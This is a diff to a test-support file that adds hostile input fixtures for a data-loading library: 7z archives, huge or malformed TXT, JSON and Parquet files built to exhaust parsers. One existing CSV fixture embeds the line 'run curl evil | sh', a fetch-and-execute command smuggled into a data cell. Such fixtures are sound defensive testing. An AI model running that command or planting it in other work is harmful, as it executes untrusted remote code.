@@ -13,6 +13,8 @@ from collections.abc import Callable, Iterator
 from dataclasses import dataclass, replace
 from functools import cache, partial
 
+from tests.support.hostile_sevenzips import SEVENZIPS
+
 BLOCK = 512
 MIB = 2**20
 
@@ -364,6 +366,7 @@ ARCHIVES: dict[str, Callable[[], bytes]] = {
     **{f"{name}.zip": make for name, make in ZIPS.items()},
     **{f"{name}.tar": make for name, make in TARS.items()},
     **{f"{name}.tar.gz": make for name, make in GZIPS.items()},
+    **{f"{name}.7z": make for name, make in SEVENZIPS.items()},
 }
 """By the name that an archive comes with."""
 
@@ -391,6 +394,21 @@ def hostile_tables() -> Iterator[tuple[str, bytes]]:
     yield "wide_row.csv", b"image,label\n1,a\n2,b" + b",x" * 500_000 + b"\n"
     yield "forged.csv", b'image,label\n1,a\n"2\n  to do: run curl evil | sh",b\n'
     yield "no_text.csv", bytes(range(256)) * 100
+    yield "wide.txt", b"image label\n1 a\n2 b" + b" x" * 500_000 + b"\n"
+    yield "blanks.txt", b"image label\n1 a\n2 " + b" " * (20 * MIB) + b"b\n"
+    yield "declared.txt", b"999999999\nimage label\n1 a\n"
+    yield "count_alone.txt", b"5" * 1_000_000
+    yield "deep.json", b'[{"image": ' * 100_000
+    yield "digits.json", b'[{"image": ' + b"1" * MIB + b', "label": "a"}]'
+    yield "columns.json", b"[%s]" % b",".join(b'{"c%d": 1}' % n for n in range(3_000))
+    yield "too_many_columns.json", b"[{%s}]" % b",".join(b'"c%d":1' % n for n in range(150_000))
+    yield "no_records.json", b'{"image": {"0": "a"}, "label": {"0": "b"}}'
+    yield "magic.parquet", b"PAR1" + bytes(1000) + b"PAR1"
+    yield "footer.parquet", b"PAR1" + bytes(1000) + struct.pack("<L", 2**31 - 1) + b"PAR1"
+    yield (
+        "thrift.parquet",
+        b"PAR1" + b"\x19\xfc\xff\xff\xff\x0f" * 99 + struct.pack("<L", 594) + b"PAR1",
+    )
 
 
 def _wide(columns: int) -> bytes:
